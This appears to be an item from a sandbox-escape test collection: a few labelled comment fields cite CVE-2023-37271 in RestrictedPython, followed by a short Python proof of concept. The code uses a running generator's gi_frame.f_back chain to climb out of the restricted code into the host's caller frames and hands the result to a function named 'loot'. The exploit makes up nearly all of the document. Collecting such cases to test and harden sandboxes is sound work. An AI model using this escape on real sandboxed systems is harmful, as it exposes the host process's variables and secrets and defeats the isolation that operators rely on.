# aim: walk from a running generator to the host's own frames
# mechanism: gi_frame.f_back while the generator runs
# source: CVE-2023-37271 (RestrictedPython)
# language: check
# reason: a frame leads to the variables of every caller
# jail: process
# plain: loot

def steps():
    yield running.gi_frame.f_back.f_back


running = steps()
loot(next(running))
